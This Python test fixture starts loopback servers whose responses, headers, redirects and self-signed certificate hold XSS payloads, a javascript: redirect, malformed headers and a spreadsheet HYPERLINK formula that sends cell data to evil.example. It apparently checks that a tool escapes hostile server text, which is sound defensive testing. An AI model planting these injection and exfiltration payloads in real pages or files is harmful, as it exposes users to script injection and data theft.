"""Portals that put markup, script and formulas wherever a portal's words can get: all of it on loopback."""

from __future__ import annotations

import contextlib
import socket
import ssl
import threading
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path

from cryptography import x509
from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.hazmat.primitives.serialization import Encoding, NoEncryption, PrivateFormat
from cryptography.x509.oid import NameOID

MARKUP = "<script>alert(1)</script><img src=x onerror=alert(2)>"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'
QUOTES = "\"'><svg/onload=alert(3)>"
RAW = ("<script>alert", "<img src=x", "<svg/onload")
"""What must not stand in a page like this."""


def answers(port: int) -> dict[str, str]:
    """The response of each portal, headers and body."""
    title = f"<!doctype html><title>{MARKUP}{FORMULA}</title><p>{MARKUP}"
    return {
        "reason": f"HTTP/1.1 503 {MARKUP}{FORMULA}\r\nServer: {QUOTES}{MARKUP}\r\nX: {FORMULA}\r\n\r\n{title}",
        "formula": f"HTTP/1.1 500 {FORMULA}\r\nServer: {FORMULA}\r\n\r\n{FORMULA}",
        "away": f"HTTP/1.1 302 Found\r\nLocation: http://127.0.0.1:{port}/{QUOTES}{MARKUP}?{FORMULA}\r\n\r\n",
        "script": "HTTP/1.1 302 Found\r\nLocation: javascript:alert(1)//" + MARKUP + "\r\n\r\n",
        "host": f"HTTP/1.1 302 Found\r\nLocation: http://{MARKUP}/\r\n\r\n",
        "length": f"HTTP/1.1 200 OK\r\nContent-Length: {MARKUP}\r\n\r\n{title}",
        "coding": f"HTTP/1.1 200 OK\r\nTransfer-Encoding: {FORMULA}\r\n\r\n{title}",
        "nonsense": f"{MARKUP}\r\n{FORMULA}\r\n\r\n",
    }


@contextlib.contextmanager
def evil(directory: Path) -> Iterator[dict[str, str]]:
    """The address of each portal, by name; ``subject`` has a certificate that is as bad as the rest."""
    with contextlib.ExitStack() as stack:
        found = {}
        for name in answers(0):
            server = stack.enter_context(socket.create_server(("127.0.0.1", 0)))
            port = server.getsockname()[1]
            _serve(server, answers(port)[name].encode(), None)
            found[name] = f"http://127.0.0.1:{port}/"
        server = stack.enter_context(socket.create_server(("127.0.0.1", 0)))
        _serve(server, answers(0)["reason"].encode(), _context(directory))
        found["subject"] = f"https://127.0.0.1:{server.getsockname()[1]}/"
        yield found


def _serve(server: socket.socket, response: bytes, tls: ssl.SSLContext | None) -> None:
    def run() -> None:
        while True:
            try:
                one, _ = server.accept()
            except OSError:
                return
            with contextlib.suppress(OSError), one:
                one.settimeout(5)
                with tls.wrap_socket(one, server_side=True) if tls else one as wire:
                    wire.recv(65536)
                    wire.sendall(response)

    threading.Thread(target=run, daemon=True).start()


def _context(directory: Path) -> ssl.SSLContext:
    """A certificate whose names are markup and formula, signed by itself."""
    key = ec.generate_private_key(ec.SECP256R1())
    name = x509.Name(
        [x509.NameAttribute(NameOID.COMMON_NAME, FORMULA), x509.NameAttribute(NameOID.ORGANIZATION_NAME, MARKUP)]
    )
    now = datetime.now(UTC)
    draft = x509.CertificateBuilder(subject_name=name, issuer_name=name, public_key=key.public_key())
    draft = draft.serial_number(1).not_valid_before(now - timedelta(1)).not_valid_after(now + timedelta(9))
    path = directory / "evil.pem"
    secret = key.private_bytes(Encoding.PEM, PrivateFormat.PKCS8, NoEncryption())
    path.write_bytes(secret + draft.sign(key, hashes.SHA256()).public_bytes(Encoding.PEM))
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(path)
    return context
